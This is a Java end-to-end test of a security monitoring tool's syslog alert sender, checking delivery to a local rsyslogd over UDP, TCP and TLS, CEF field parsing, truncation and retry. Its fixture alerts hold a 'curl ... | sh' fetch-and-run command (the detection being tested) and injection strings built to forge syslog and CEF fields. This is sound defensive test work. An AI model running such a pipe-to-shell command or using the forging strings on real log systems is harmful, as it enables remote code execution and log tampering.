package io.vigil.e2e;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.vigil.collector.sink.SinkAlert;
import io.vigil.collector.sink.SyslogSender;
import io.vigil.collector.sink.SyslogTarget;
import io.vigil.collector.tls.CertificateAuthority;
import io.vigil.collector.tls.PemFiles;
import io.vigil.testkit.Poll;
import io.vigil.testkit.Rsyslog;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.OffsetDateTime;
import java.time.temporal.ChronoUnit;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The syslog alert sender against Debian's rsyslogd on loopback (a private instance: its own
 * config, ports and files; no kernel-global state, so no kernel tag): over UDP, TCP and TLS the
 * alerts arrive, rsyslog's own RFC 5424 parser finds the fields that were sent, and the CEF record
 * in MSG parses back to the alert's values, hostile text included. A TCP receiver that is down
 * fails the send, and the caller's retry after its restart delivers everything.
 */
class SyslogReceiverTest {
  private static final Duration WAIT = Duration.ofSeconds(60);
  private static final Pattern ALERT_ID = Pattern.compile("alert_id=\"(\\d+)\"");
  private static final String PID = Long.toString(ProcessHandle.current().pid());

  @TempDir static Path dir;
  private static Rsyslog rsyslog;

  @BeforeAll
  static void startReceiver() throws Exception {
    Rsyslog.requireInstalled();
    rsyslog = Rsyslog.start(dir.resolve("rsyslog"));
  }

  @AfterAll
  static void stopReceiver() throws Exception {
    if (rsyslog != null) {
      rsyslog.close();
    }
  }

  private static SyslogTarget target(Rsyslog r, String transport, int maxBytes) {
    int port =
        switch (transport) {
          case "udp" -> r.udpPort();
          case "tcp" -> r.tcpPort();
          default -> r.tlsPort();
        };
    return new SyslogTarget(
        transport, "127.0.0.1", port, r.caFile(), "vigil-test", "local0", maxBytes);
  }

  private static long nowNs() {
    Instant t = Instant.now();
    return t.getEpochSecond() * 1_000_000_000L + t.getNano();
  }

  static List<SinkAlert> alerts(long base) {
    long stored = nowNs();
    String process =
        "{\"pid\":4242,\"image\":\"/usr/bin/curl\",\"command_line\":\"curl -s http://x/a=b |"
            + " sh\",\"user\":\"alice\"}";
    return List.of(
        new SinkAlert(
            base + 1,
            "agent-0001",
            "web-1.example",
            "sigma",
            "vigil-curl-pipe-sh",
            "Curl piped to shell",
            "high",
            List.of("attack.t1059.004", "attack.execution"),
            stored - 5_000_000_000L,
            stored,
            "{\"alert_id\":"
                + (base + 1)
                + ",\"matched_fields\":{\"CommandLine\":"
                + "[\"curl -s http://x/a=b | sh\"]},\"process\":"
                + process
                + "}"),
        new SinkAlert(
            base + 2,
            "agent\"]\\",
            "h|=\\]\" cs1=forged\nx\uD800",
            "correlation",
            "rule|=\\ x",
            "pipe|back\\slash eq= ]bracket \"quote\nnext\u0007bell \u20ac\uD83D\uDE00",
            "critical",
            List.of("t=1", "t\\2"),
            stored - 1_000_000L,
            stored + 1_000L,
            "{\"matched_fields\":{\"Cmd\\nLine\":[\"a\\nb=c\\\\\",\"\\u0001\"]}}"),
        new SinkAlert(
            base + 3, "agent-3", "db", "intel", "r3", "plain", null, List.of(), 7, stored, "{}"));
  }

  @ParameterizedTest
  @ValueSource(strings = {"udp", "tcp", "tls"})
  void alertsArriveAsRfc5424AndTheirCefParsesBack(String transport) throws Exception {
    long base = Map.of("udp", 100L, "tcp", 200L, "tls", 300L).get(transport);
    List<SinkAlert> sent = alerts(base);
    try (SyslogSender sender = new SyslogSender(target(rsyslog, transport, 8192))) {
      sender.send(sent.subList(0, 1));
      sender.send(sent.subList(1, 3)); // the second batch checks the open connection first
      List<Rsyslog.Received> got =
          awaitIds(rsyslog, transport, Set.of(base + 1, base + 2, base + 3));
      assertEquals(3, got.size(), "exactly the three alerts: " + got);
      for (Rsyslog.Received r : got) {
        SinkAlert a = sent.get((int) (alertId(r) - base - 1));
        checkSyslogFields(r, a, sender.hostname());
        checkCef(CefRecord.parse(r.msg()), a);
      }
    }
  }

  @Test
  void anOversizedAlertIsCutToOneDatagramUnderTheLimit() throws Exception {
    String title = "\u20acx|".repeat(2000);
    SinkAlert big =
        new SinkAlert(
            901,
            "agent-9",
            "h".repeat(300),
            "sigma",
            "r".repeat(500),
            title,
            "low",
            List.of("t".repeat(3000)),
            1,
            nowNs(),
            "{}");
    try (SyslogSender sender = new SyslogSender(target(rsyslog, "udp", 600))) {
      sender.send(List.of(big));
    }
    Rsyslog.Received r = awaitIds(rsyslog, "udp", Set.of(901L)).get(0);
    int bytes = r.raw().getBytes(StandardCharsets.UTF_8).length;
    assertTrue(bytes <= 600 && bytes > 400, "a full datagram within the limit: " + bytes);
    CefRecord cef = CefRecord.parse(r.msg());
    assertTrue(title.startsWith(cef.name()) && !cef.name().isEmpty(), cef.name());
    assertEquals("901", cef.extension().get("externalId"));
  }

  @Test
  void tcpFailsWhileTheReceiverIsDownAndTheRetryAfterItsRestartLosesNothing() throws Exception {
    try (Rsyslog own = Rsyslog.start(dir.resolve("outage"));
        SyslogSender sender = new SyslogSender(target(own, "tcp", 8192))) {
      sender.send(alerts(500));
      awaitIds(own, "tcp", Set.of(501L, 502L, 503L));
      own.stop();
      List<SinkAlert> during = alerts(600);
      assertThrows(IOException.class, () -> sender.send(during), "receiver down");
      assertThrows(IOException.class, () -> sender.send(during), "still down: no reconnect");
      own.restart();
      sender.send(during); // the caller's retry of the same list
      Set<Long> all = Set.of(501L, 502L, 503L, 601L, 602L, 603L);
      List<Rsyslog.Received> got = awaitIds(own, "tcp", all);
      assertEquals(6, got.size(), "all six, none twice: " + got);
      assertEquals(6, own.received().size(), "nothing else: " + own.received());
    }
  }

  @Test
  void tlsRefusesAReceiverOutsideTheConfiguredTrust() throws Exception {
    Path otherCa = dir.resolve("other-ca.pem");
    PemFiles.write(
        otherCa,
        CertificateAuthority.pem(
            CertificateAuthority.create("vigil-test-syslog other CA", Duration.ofDays(1))
                .certificate()),
        false);
    SyslogTarget t = target(rsyslog, "tls", 8192);
    SyslogTarget untrusted =
        new SyslogTarget("tls", t.host(), t.port(), otherCa, t.appName(), t.facility(), 8192);
    try (SyslogSender sender = new SyslogSender(untrusted)) {
      assertThrows(IOException.class, () -> sender.send(alerts(700)));
    }
  }

  /** Waits until each id arrived on {@code input}; returns the messages with those ids. */
  private static List<Rsyslog.Received> awaitIds(Rsyslog r, String input, Set<Long> ids)
      throws InterruptedException {
    Poll.until(
        WAIT,
        () -> "alerts " + ids + " not all received on " + input + ": " + r.received() + r.log(),
        () ->
            received(r, input, ids).stream()
                .map(SyslogReceiverTest::alertId)
                .toList()
                .containsAll(ids));
    return received(r, input, ids);
  }

  private static List<Rsyslog.Received> received(Rsyslog r, String input, Set<Long> ids) {
    return r.received().stream()
        .filter(x -> x.input().equals(input) && ids.contains(alertId(x)))
        .toList();
  }

  private static long alertId(Rsyslog.Received r) {
    Matcher m = ALERT_ID.matcher(r.structuredData());
    assertTrue(m.find(), "no alert_id in " + r);
    return Long.parseLong(m.group(1));
  }

  private static void checkSyslogFields(Rsyslog.Received r, SinkAlert a, String hostname) {
    assertEquals("1", r.version(), "rsyslog parsed it as RFC 5424: " + r);
    assertEquals(16 * 8 + syslogSeverity(a.level()), r.pri(), r.toString());
    Instant sentTime = Instant.ofEpochSecond(0, a.storedNs()).truncatedTo(ChronoUnit.MICROS);
    assertEquals(sentTime, OffsetDateTime.parse(r.timestamp()).toInstant(), r.timestamp());
    assertEquals(hostname, r.hostname());
    assertEquals("vigil-test", r.appName());
    assertEquals(PID, r.procId());
    assertEquals("alert", r.msgId());
    assertEquals(
        "[vigil@32473 alert_id=\""
            + a.id()
            + "\" agent_id=\""
            + sd(a.agentId())
            + "\" rule_id=\""
            + sd(a.ruleId())
            + "\" source=\""
            + sd(a.source())
            + "\""
            + (a.level() == null ? "" : " level=\"" + a.level() + "\"")
            + "]",
        r.structuredData());
    assertTrue(r.raw().endsWith("] " + r.msg()), "no BOM, MSG right after the SD: " + r.raw());
  }

  private static void checkCef(CefRecord cef, SinkAlert a) {
    assertEquals(List.of("0", "Vigil", "Vigil Collector"), cef.header().subList(0, 3));
    assertFalse(cef.header().get(3).isEmpty(), "a version");
    assertEquals(a.ruleId(), cef.header().get(4));
    assertEquals(shown(a.title()).replace('\n', ' '), cef.header().get(5));
    assertEquals(Integer.toString(cefSeverity(a.level())), cef.header().get(6));
    Map<String, String> e = cef.extension();
    assertEquals(Long.toString(a.storedNs() / 1_000_000), e.get("rt"));
    assertEquals(Long.toString(a.eventTimeNs() / 1_000_000), e.get("start"));
    assertEquals(Long.toString(a.id()), e.get("externalId"));
    assertEquals(a.source(), e.get("cat"));
    assertEquals(shown(a.hostname()), e.get("dhost"));
    assertEquals("agent_id", e.get("cs1Label"));
    assertEquals(a.agentId(), e.get("cs1"));
    assertEquals(a.level(), e.get("cs3"));
    assertEquals(a.tags().isEmpty() ? null : String.join(",", a.tags()), e.get("cs2"));
    if (a.id() % 100 == 1) {
      assertEquals("4242", e.get("dpid"));
      assertEquals("/usr/bin/curl", e.get("dproc"));
      assertEquals("alice", e.get("duser"));
      assertEquals("curl -s http://x/a=b | sh", e.get("cs5"));
      assertEquals("{\"CommandLine\":[\"curl -s http://x/a=b | sh\"]}", e.get("cs4"));
    }
    if (a.id() % 100 == 2) {
      assertEquals(
          "{\"Cmd\\nLine\":[\"a\\nb=c\\\\\",\"\ufffd\"]}",
          e.get("cs4"),
          "matched values with line breaks, = and \\ come back; a control character as U+FFFD");
    }
  }

  /** What the sender may carry of a text: controls and lone surrogates as U+FFFD. */
  private static String shown(String s) {
    StringBuilder out = new StringBuilder();
    s.codePoints()
        .forEach(
            cp ->
                out.appendCodePoint(
                    (cp < 0x20 && cp != '\n') || Character.isSurrogate((char) cp) && cp < 0x10000
                        ? 0xFFFD
                        : cp));
    return out.toString();
  }

  private static String sd(String s) {
    return shown(s)
        .replace("\\", "\\\\")
        .replace("\"", "\\\"")
        .replace("]", "\\]")
        .replace('\n', ' ');
  }

  private static int syslogSeverity(String level) {
    Map<String, Integer> m = new HashMap<>(Map.of("critical", 2, "high", 3, "medium", 4, "low", 5));
    return level == null ? 6 : m.getOrDefault(level, 6);
  }

  private static int cefSeverity(String level) {
    Map<String, Integer> m = Map.of("critical", 10, "high", 8, "medium", 5, "low", 3);
    return level == null ? 1 : m.getOrDefault(level, 1);
  }
}
